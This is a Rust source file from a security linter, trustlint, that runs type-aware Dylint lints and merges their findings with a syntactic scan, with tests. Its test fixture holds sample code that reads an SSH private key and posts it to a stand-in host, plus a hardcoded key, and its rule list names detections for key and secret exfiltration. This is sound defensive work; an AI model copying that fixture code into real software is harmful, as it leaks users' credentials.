//! `--deep`: the type-aware lints in `lints/` run through Dylint on a cargo
//! workspace; their compiler diagnostics become trustlint findings, merged with the
//! syntactic scan's.
//!
//! This compiles the workspace (`cargo check`), so its build scripts and proc macros
//! run: callers must say so to the user.

use crate::{ScanResult, Settings, find_rule};
use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use trustlint_core::finding::{FlowLocation, number_fingerprints};
use trustlint_core::{Category, Diagnostic, Finding, LineIndex, TextRange};

/// Lint names of the Dylint library and the trustlint rules they report.
pub const LINT_RULES: [(&str, &str); 4] = [
    ("hardcoded_crypto_key", "credentials/hardcoded-crypto-key"),
    ("env_vars_to_network", "data-upload/env-vars-to-network"),
    ("key_file_to_network", "data-upload/key-file-to-network"),
    (
        "remote_command_execution",
        "debug-entry/remote-command-execution",
    ),
];

/// The environment variable that names the lint library's directory.
pub const LINTS_DIR_VAR: &str = "TRUSTLINT_LINTS_DIR";

/// The lint library's package (and library) name.
const LIBRARY_NAME: &str = "trustlint_lints";

/// What the deep tier found.
#[derive(Debug, Default)]
pub struct DeepFindings {
    /// Paths relative to the scan root.
    pub findings: Vec<Finding>,
    /// Suppression comments (path, range of the comment) that covered a deep finding:
    /// the syntactic scan, which does not see those findings, calls them unused.
    pub used_suppressions: Vec<(String, TextRange)>,
}

/// Where the lint library is: `TRUSTLINT_LINTS_DIR`; else a `lints/` directory next
/// to an ancestor of the running executable (a checkout's `target/debug/trustlint`);
/// else the `lints/` directory of the source tree this binary was built from.
pub fn lints_dir() -> Result<PathBuf, String> {
    if let Some(dir) = std::env::var_os(LINTS_DIR_VAR) {
        let dir = PathBuf::from(dir);
        return if is_lints_dir(&dir) {
            Ok(dir)
        } else {
            Err(format!(
                "{LINTS_DIR_VAR}={}: no `{LIBRARY_NAME}` package there",
                dir.display()
            ))
        };
    }
    let from_exe = std::env::current_exe()
        .ok()
        .and_then(|exe| exe.canonicalize().ok())
        .and_then(|exe| {
            exe.ancestors()
                .skip(1)
                .map(|dir| dir.join("lints"))
                .find(|dir| is_lints_dir(dir))
        });
    let built_from = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../lints");
    from_exe
        .or_else(|| is_lints_dir(&built_from).then_some(built_from))
        .map(|dir| dir.canonicalize().unwrap_or(dir))
        .ok_or_else(|| {
            format!(
                "`--deep` cannot find trustlint's `lints/` directory (the Dylint library of a trustlint checkout); set {LINTS_DIR_VAR} to its path"
            )
        })
}

fn is_lints_dir(dir: &Path) -> bool {
    std::fs::read_to_string(dir.join("Cargo.toml"))
        .is_ok_and(|manifest| manifest.contains(&format!("name = \"{LIBRARY_NAME}\"")))
}

/// The nightly the lint library pins in its `rust-toolchain.toml`.
pub fn pinned_toolchain(lints: &Path) -> Result<String, String> {
    let file = lints.join("rust-toolchain.toml");
    let text = std::fs::read_to_string(&file).map_err(|e| format!("{}: {e}", file.display()))?;
    text.lines()
        .find_map(|line| {
            let value = line
                .trim()
                .strip_prefix("channel")?
                .trim()
                .strip_prefix('=')?;
            Some(value.trim().trim_matches('"').to_owned())
        })
        .ok_or_else(|| format!("{}: no `channel`", file.display()))
}

/// A command run with the rustup toolchain that `dir` selects, not the one of the
/// process that runs trustlint (cargo and rustup pass theirs down in the environment).
fn command_in(program: &str, dir: &Path) -> Command {
    let mut command = Command::new(program);
    command
        .current_dir(dir)
        .env_remove("RUSTUP_TOOLCHAIN")
        .env_remove("CARGO")
        .env_remove("RUSTC")
        .env_remove("RUSTC_WORKSPACE_WRAPPER")
        // Installing a missing toolchain is the user's decision (and a download).
        .env("RUSTUP_AUTO_INSTALL", "0");
    command
}

/// Checks that the pinned nightly (with `rustc-dev`), cargo-dylint and dylint-link
/// are installed; the error names what is missing and the exact install commands.
pub fn check_prerequisites(lints: &Path) -> Result<String, String> {
    let toolchain = pinned_toolchain(lints)?;
    let components = command_in("rustup", lints)
        .args([
            "component",
            "list",
            "--installed",
            "--toolchain",
            &toolchain,
        ])
        .output()
        .ok()
        .filter(|o| o.status.success())
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned());
    let has_toolchain = components
        .as_deref()
        .is_some_and(|installed| installed.lines().any(|c| c.starts_with("rustc-dev")));
    let has_dylint = command_in("cargo-dylint", lints)
        .args(["dylint", "--version"])
        .output()
        .is_ok_and(|o| o.status.success());
    let has_linker = command_in("dylint-link", lints)
        .arg("--version")
        .output()
        .is_ok();
    let mut missing = Vec::new();
    if !has_toolchain {
        missing.push(format!("the {toolchain} toolchain with rustc-dev"));
    }
    if !has_dylint {
        missing.push("cargo-dylint".to_owned());
    }
    if !has_linker {
        missing.push("dylint-link".to_owned());
    }
    if missing.is_empty() {
        return Ok(toolchain);
    }
    Err(format!(
        "`--deep` needs {}; install them with:\n  rustup toolchain install {toolchain} --profile minimal -c rustc-dev -c llvm-tools\n  cargo install dylint-link\n  cargo +{toolchain} install --locked cargo-dylint",
        missing.join(" and ")
    ))
}

/// The root of the cargo workspace that contains `dir` (reads manifests only).
pub fn workspace_root(dir: &Path) -> Result<PathBuf, String> {
    let output = Command::new("cargo")
        .current_dir(dir)
        .args([
            "locate-project",
            "--workspace",
            "--message-format",
            "plain",
            "--offline",
        ])
        .output()
        .map_err(|e| format!("cannot run `cargo locate-project`: {e}"))?;
    if !output.status.success() {
        return Err(format!(
            "`--deep` needs a cargo workspace, and {} is in none: {}",
            dir.display(),
            String::from_utf8_lossy(&output.stderr).trim()
        ));
    }
    let manifest = PathBuf::from(String::from_utf8_lossy(&output.stdout).trim());
    manifest
        .parent()
        .map(Path::to_path_buf)
        .ok_or_else(|| format!("`cargo locate-project` printed {}", manifest.display()))
}

/// Builds the lint library (once; later runs find it up to date) in the lint
/// directory's own `target/` and returns the file Dylint loads. A debug build: it
/// compiles much faster than a release one, shares its artifacts with the UI tests,
/// and the compiler that loads it is the optimised part of a deep scan.
fn build_library(lints: &Path, toolchain: &str) -> Result<PathBuf, String> {
    let built = lints.join("target/debug");
    let output = command_in("cargo", lints)
        .args(["build", "--quiet", "--target-dir"])
        .arg(lints.join("target"))
        .output()
        .map_err(|e| format!("cannot run `cargo build` in {}: {e}", lints.display()))?;
    if !output.status.success() {
        return Err(format!(
            "building the lint library in {} failed:\n{}",
            lints.display(),
            tail(&output)
        ));
    }
    // dylint-link copies the library to `lib<name>@<toolchain>-<host>.so`, the form
    // Dylint requires.
    let prefix = format!("{}{LIBRARY_NAME}@{toolchain}", std::env::consts::DLL_PREFIX);
    std::fs::read_dir(&built)
        .map_err(|e| format!("{}: {e}", built.display()))?
        .filter_map(|entry| entry.ok().map(|e| e.path()))
        .find(|path| {
            path.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with(&prefix) && n.ends_with(std::env::consts::DLL_SUFFIX))
        })
        .ok_or_else(|| {
            format!(
                "the lint library built, but {} holds no `{prefix}*{}` (is dylint-link its linker?)",
                built.display(),
                std::env::consts::DLL_SUFFIX
            )
        })
}

/// The last lines of a failed command's standard error.
fn tail(output: &Output) -> String {
    let stderr = String::from_utf8_lossy(&output.stderr);
    let lines: Vec<&str> = stderr.lines().collect();
    lines[lines.len().saturating_sub(20)..].join("\n")
}

/// Runs the lint library on the cargo workspace at `workspace` and returns its
/// findings in files under `scan_root`, with paths relative to `scan_root`.
pub fn run_deep(
    workspace: &Path,
    scan_root: &Path,
    settings: &Settings,
) -> Result<DeepFindings, String> {
    let lints = lints_dir()?;
    let toolchain = check_prerequisites(&lints)?;
    let library = build_library(&lints, &toolchain)?;
    let output = command_in("cargo", workspace)
        .arg("dylint")
        .arg("--lib-path")
        .arg(&library)
        // Only trustlint's lints, not the libraries a workspace's metadata names.
        .args(["--no-metadata", "--workspace", "--quiet"])
        .args(["--", "--message-format=json"])
        .output()
        .map_err(|e| format!("cannot run `cargo dylint`: {e}"))?;
    let workspace = workspace
        .canonicalize()
        .map_err(|e| format!("{}: {e}", workspace.display()))?;
    let scan_root = scan_root
        .canonicalize()
        .map_err(|e| format!("{}: {e}", scan_root.display()))?;
    let mut files = Files::new(&workspace, &scan_root);
    let mut deep = DeepFindings::default();
    let mut messages = 0;
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        let Ok(value) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        if value["reason"] != "compiler-message" {
            continue;
        }
        messages += 1;
        to_finding(&value["message"], &mut files, settings, &mut deep)?;
    }
    if !output.status.success() && messages == 0 {
        return Err(format!("`cargo dylint` failed:\n{}", tail(&output)));
    }
    let mut seen = BTreeSet::new();
    deep.findings
        .retain(|f| seen.insert((f.rule.id, f.path.clone(), f.range)));
    Ok(deep)
}

/// Source files named by diagnostics (relative to the workspace), read once, shown
/// relative to the scan root.
struct Files {
    workspace: PathBuf,
    scan_root: PathBuf,
    texts: BTreeMap<String, Option<(String, String)>>,
}

impl Files {
    fn new(workspace: &Path, scan_root: &Path) -> Files {
        Files {
            workspace: workspace.to_path_buf(),
            scan_root: scan_root.to_path_buf(),
            texts: BTreeMap::new(),
        }
    }

    /// (shown path, text) of a diagnostic's file; `None` for files outside the scan
    /// root (dependencies, the standard library).
    fn get(&mut self, file_name: &str) -> Option<(String, String)> {
        let (workspace, scan_root) = (&self.workspace, &self.scan_root);
        self.texts
            .entry(file_name.to_owned())
            .or_insert_with(|| {
                let absolute = workspace.join(file_name).canonicalize().ok()?;
                let shown = absolute.strip_prefix(scan_root).ok()?;
                let shown = shown.to_str()?.replace('\\', "/");
                let text = std::fs::read_to_string(&absolute).ok()?;
                Some((shown, text))
            })
            .clone()
    }
}

/// Adds one compiler diagnostic of the lint library to `deep` as a finding; other
/// compiler output (warnings of the compiled code itself) is skipped.
fn to_finding(
    message: &serde_json::Value,
    files: &mut Files,
    settings: &Settings,
    deep: &mut DeepFindings,
) -> Result<(), String> {
    let Some(code) = message["code"]["code"].as_str() else {
        return Ok(());
    };
    let Some((_, rule_id)) = LINT_RULES.iter().find(|(lint, _)| *lint == code) else {
        return Ok(());
    };
    let rule = find_rule(rule_id)
        .ok_or_else(|| format!("lint `{code}` maps to unknown rule `{rule_id}`"))?;
    if !settings.rules.is_enabled(rule) {
        return Ok(());
    }
    let spans = message["spans"].as_array().cloned().unwrap_or_default();
    let Some((file_name, range)) = spans
        .iter()
        .find(|s| s["is_primary"] == true)
        .and_then(span_location)
    else {
        return Ok(());
    };
    let Some((path, text)) = files.get(&file_name) else {
        return Ok(());
    };
    let mut diagnostic =
        Diagnostic::new(rule, range, message["message"].as_str().unwrap_or_default());
    // A credential finding points at the secret itself: it is masked in every output.
    if rule.category() == Category::Credentials {
        diagnostic = diagnostic.with_secret(range);
    }
    // Notes are flow steps, in the lint's order (the source first); they may be in
    // other files of the workspace.
    let mut flow = Vec::new();
    for child in message["children"].as_array().into_iter().flatten() {
        let note = child["message"].as_str().unwrap_or_default();
        match child["level"].as_str() {
            Some("help") => diagnostic = diagnostic.with_help(note),
            Some("note") => {
                let step = child["spans"]
                    .as_array()
                    .and_then(|s| s.first())
                    .and_then(span_location);
                let Some((step_file, step_range)) = step else {
                    continue;
                };
                if let Some((step_path, step_text)) = files.get(&step_file) {
                    let index = LineIndex::new(&step_text);
                    flow.push(FlowLocation {
                        path: step_path,
                        start: index.position(step_range.start),
                        end: index.position(step_range.end),
                        note: note.to_owned(),
                    });
                }
            }
            _ => {}
        }
    }
    let index = LineIndex::new(&text);
    let line = index.line_of(range.start);
    let is_known = |name: &str| find_rule(name).is_some() || Category::parse(name).is_some();
    let suppression = trustlint_core::suppress::parse_suppressions(&text)
        .into_iter()
        .find(|s| s.reason.is_some() && s.covers(rule) && s.target_line == line);
    if let Some(suppression) = suppression {
        if suppression.rules.iter().all(|name| is_known(name)) {
            deep.used_suppressions.push((path, suppression.range));
        }
        return Ok(());
    }
    let mut finding = Finding::locate(diagnostic, &path, &text, &index, &[]);
    finding.flow = flow;
    finding.severity = settings.severity_of(rule, finding.severity);
    deep.findings.push(finding);
    Ok(())
}

fn span_location(span: &serde_json::Value) -> Option<(String, TextRange)> {
    let path = span["file_name"].as_str()?.to_owned();
    let start = usize::try_from(span["byte_start"].as_u64()?).ok()?;
    let end = usize::try_from(span["byte_end"].as_u64()?).ok()?;
    Some((path, TextRange::new(start, end.max(start))))
}

/// Adds the deep findings to a syntactic scan's result. A deep finding in a file
/// the scan did not read (excluded, ignored, outside the given paths) is dropped;
/// one of the same rule on the same line as a syntactic finding is the same finding
/// (the syntactic one is kept). Suppressions that only deep findings use are no
/// longer reported as unused.
pub fn merge(result: &mut ScanResult, deep: DeepFindings) {
    let used: HashSet<(String, TextRange)> = deep.used_suppressions.into_iter().collect();
    result.findings.retain(|f| {
        f.rule.id != trustlint_core::rules::trustlint::unused_suppression::RULE.id
            || !used.contains(&(f.path.clone(), f.range))
    });
    let syntactic: HashSet<(&str, String, usize)> = result
        .findings
        .iter()
        .map(|f| (f.rule.id, f.path.clone(), f.start.line))
        .collect();
    let new: Vec<Finding> = deep
        .findings
        .into_iter()
        .filter(|f| {
            result.scanned.binary_search(&f.path).is_ok()
                && !syntactic.contains(&(f.rule.id, f.path.clone(), f.start.line))
        })
        .collect();
    result.findings.extend(new);
    number_fingerprints(&mut result.findings);
    result
        .findings
        .sort_by(|a, b| (&a.path, a.start, a.rule.id).cmp(&(&b.path, b.start, b.rule.id)));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::walk::scan_paths;
    use serde_json::json;

    /// A workspace whose `src/upload.rs` reads a key file in one function and sends
    /// it in another: what only the deep tier sees. Line 4 also holds a hardcoded key
    /// that the syntactic scan reports (it reaches a cipher) under the deep tier's rule
    /// id.
    const UPLOAD: &str = "\
pub fn key() -> Vec<u8> {
    std::fs::read(\"/home/dev/.ssh/id_ed25519\").unwrap_or_default()
}
pub const SESSION_KEY: &[u8; 32] = b\"k3Jd9a0QmZ7xLw2pR5tY8uV1bN4cE6gH\";
pub fn send(client: &reqwest::blocking::Client, body: Vec<u8>) {
    let _ = client.post(\"https://paste.example.net\").body(body).send();
}
pub fn session_cipher() -> aes_gcm::Aes256Gcm {
    aes_gcm::Aes256Gcm::new_from_slice(SESSION_KEY).expect(\"32 bytes\")
}
";

    fn workspace() -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir(dir.path().join("src")).expect("src");
        std::fs::write(dir.path().join("src/upload.rs"), UPLOAD).expect("write");
        dir
    }

    fn span(file: &str, text: &str, needle: &str, primary: bool) -> serde_json::Value {
        let start = text.find(needle).expect("needle in fixture");
        json!({
            "file_name": file,
            "byte_start": start,
            "byte_end": start + needle.len(),
            "is_primary": primary,
        })
    }

    /// The `message` of a `compiler-message` line, as rustc writes it for a lint of
    /// the library: primary span at the sink, the source as a note, a help line.
    fn key_file_message() -> serde_json::Value {
        json!({
            "message": "the contents of a key file are sent over the network",
            "code": { "code": "key_file_to_network", "explanation": null },
            "level": "warning",
            "spans": [span("src/upload.rs", UPLOAD, ".body(body)", true)],
            "children": [
                {
                    "message": "the key file is read here",
                    "level": "note",
                    "spans": [span("src/upload.rs", UPLOAD, "std::fs::read(", false)],
                    "children": []
                },
                {
                    "message": "keep key files on the machine",
                    "level": "help",
                    "spans": [],
                    "children": []
                }
            ]
        })
    }

    #[test]
    fn a_lint_diagnostic_becomes_a_finding_with_its_flow_and_help() {
        let dir = workspace();
        let root = dir.path().canonicalize().expect("canonical");
        let mut files = Files::new(&root, &root);
        let mut deep = DeepFindings::default();
        to_finding(
            &key_file_message(),
            &mut files,
            &Settings::default(),
            &mut deep,
        )
        .expect("known lint");
        let [finding] = deep.findings.as_slice() else {
            panic!("one finding expected, got {:?}", deep.findings);
        };
        assert_eq!(finding.rule.id, "data-upload/key-file-to-network");
        assert_eq!(finding.path, "src/upload.rs");
        assert_eq!(finding.start.line, 6);
        assert_eq!(finding.flow.len(), 1);
        assert_eq!(finding.flow[0].start.line, 2);
        assert_eq!(finding.flow[0].note, "the key file is read here");
    }

    #[test]
    fn diagnostics_of_other_lints_of_disabled_rules_and_outside_the_root_are_dropped() {
        let dir = workspace();
        let root = dir.path().canonicalize().expect("canonical");
        let mut deep = DeepFindings::default();

        let mut rustc_warning = key_file_message();
        rustc_warning["code"]["code"] = json!("unused_variables");
        let mut dependency = key_file_message();
        dependency["spans"][0]["file_name"] = json!("/root/.cargo/registry/src/reqwest/lib.rs");
        for message in [rustc_warning, dependency] {
            to_finding(
                &message,
                &mut Files::new(&root, &root),
                &Settings::default(),
                &mut deep,
            )
            .expect("skipped, not an error");
        }
        let ignoring = Settings {
            rules: crate::RuleFilter {
                select: Vec::new(),
                ignore: vec!["data-upload".to_owned()],
            },
            ..Settings::default()
        };
        let mut files = Files::new(&root, &root);
        to_finding(&key_file_message(), &mut files, &ignoring, &mut deep).expect("skipped");
        assert!(deep.findings.is_empty(), "{:?}", deep.findings);
    }

    #[test]
    fn a_suppressed_deep_finding_is_dropped_and_its_comment_counts_as_used() {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir(dir.path().join("src")).expect("src");
        let suppressed = UPLOAD.replace(
            "    let _ = client.post",
            "    // trustlint:allow(data-upload/key-file-to-network) -- the user attaches this key to a support ticket\n    let _ = client.post",
        );
        std::fs::write(dir.path().join("src/upload.rs"), &suppressed).expect("write");
        let root = dir.path().canonicalize().expect("canonical");
        let mut message = key_file_message();
        message["spans"] = json!([span("src/upload.rs", &suppressed, ".body(body)", true)]);
        message["children"][0]["spans"] =
            json!([span("src/upload.rs", &suppressed, "std::fs::read(", false)]);
        let mut deep = DeepFindings::default();
        to_finding(
            &message,
            &mut Files::new(&root, &root),
            &Settings::default(),
            &mut deep,
        )
        .expect("known lint");
        assert!(deep.findings.is_empty(), "{:?}", deep.findings);
        assert_eq!(deep.used_suppressions.len(), 1);

        // The syntactic scan alone calls that comment unused; merged, it is not.
        let mut result = scan_paths(&root, std::slice::from_ref(&root), &Settings::default(), 1);
        let unused = trustlint_core::rules::trustlint::unused_suppression::RULE.id;
        assert!(result.findings.iter().any(|f| f.rule.id == unused));
        merge(&mut result, deep);
        assert!(!result.findings.iter().any(|f| f.rule.id == unused));
    }

    #[test]
    fn merging_keeps_the_syntactic_finding_on_the_same_line_and_adds_new_ones_in_order() {
        let dir = workspace();
        let root = dir.path().canonicalize().expect("canonical");
        let mut result = scan_paths(&root, std::slice::from_ref(&root), &Settings::default(), 1);
        let syntactic_key = result
            .findings
            .iter()
            .find(|f| f.rule.id == "credentials/hardcoded-crypto-key")
            .cloned()
            .expect("the syntactic scan reports the const key");

        let mut deep = DeepFindings::default();
        let mut files = Files::new(&root, &root);
        to_finding(
            &key_file_message(),
            &mut files,
            &Settings::default(),
            &mut deep,
        )
        .expect("known lint");
        let mut same_key = key_file_message();
        same_key["code"]["code"] = json!("hardcoded_crypto_key");
        same_key["children"] = json!([]);
        same_key["spans"] = json!([span("src/upload.rs", UPLOAD, "b\"k3J", true)]);
        to_finding(&same_key, &mut files, &Settings::default(), &mut deep).expect("known lint");
        assert_eq!(deep.findings.len(), 2);

        let before = result.findings.len();
        merge(&mut result, deep);
        assert_eq!(result.findings.len(), before + 1, "{:#?}", result.findings);
        let keys: Vec<&Finding> = result
            .findings
            .iter()
            .filter(|f| f.rule.id == "credentials/hardcoded-crypto-key")
            .collect();
        assert_eq!(keys.len(), 1);
        assert_eq!(
            keys[0].message, syntactic_key.message,
            "the syntactic one is kept"
        );
        let positions: Vec<_> = result.findings.iter().map(|f| (&f.path, f.start)).collect();
        assert!(positions.is_sorted(), "{positions:?}");
        assert!(
            result
                .findings
                .iter()
                .any(|f| f.rule.id == "data-upload/key-file-to-network" && f.start.line == 6)
        );
    }

    #[test]
    fn deep_findings_in_files_the_scan_did_not_read_are_dropped() {
        let dir = workspace();
        let root = dir.path().canonicalize().expect("canonical");
        let mut deep = DeepFindings::default();
        to_finding(
            &key_file_message(),
            &mut Files::new(&root, &root),
            &Settings::default(),
            &mut deep,
        )
        .expect("known lint");
        let mut result = ScanResult::default();
        merge(&mut result, deep);
        assert!(result.findings.is_empty(), "{:?}", result.findings);
    }
}
